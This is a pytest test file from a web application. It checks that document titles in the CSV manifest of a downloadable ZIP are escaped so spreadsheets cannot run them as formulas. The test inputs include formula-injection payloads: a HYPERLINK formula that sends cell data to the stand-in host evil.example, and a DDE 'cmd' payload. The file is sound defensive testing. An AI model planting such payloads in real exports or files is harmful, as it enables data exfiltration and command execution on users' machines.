"""C2: «Скачать все документы» — the manifest of the ZIP never carries a spreadsheet formula."""
import csv
import io
import zipfile

import pytest

from app.extensions import db
from tests.documents.conftest import attach, make_application


@pytest.mark.parametrize("title", ['=HYPERLINK("http://evil.example/?x="&A1;"Открыть")', "+cmd|' /C calc'!A0",
                                   "-2+3", "@SUM(1)"])
def test_manifest_titles_never_run_as_formulas(client, login, people, title):
    """Titles and names are typed by users: a spreadsheet opening «Опись документов.csv» must not
    run one as a formula, so each such cell starts with an apostrophe."""
    application = make_application(people.owner)
    attach(application, title=title, data=b"%PDF-1.4 x", name=f"{title}.pdf", side="consumer", author=people.owner)
    db.session.commit()
    login(people.owner)
    response = client.get(f"/documents/application/{application.id}/bundle.zip")
    archive = zipfile.ZipFile(io.BytesIO(response.data))
    manifest = list(csv.reader(io.StringIO(archive.read("Опись документов.csv").decode("utf-8-sig")), delimiter=";"))
    row = next(row for row in manifest[1:] if row[1].endswith(title))
    assert row[1] == "'" + title
    assert all(not cell.startswith(("=", "+", "-", "@")) for line in manifest for cell in line)
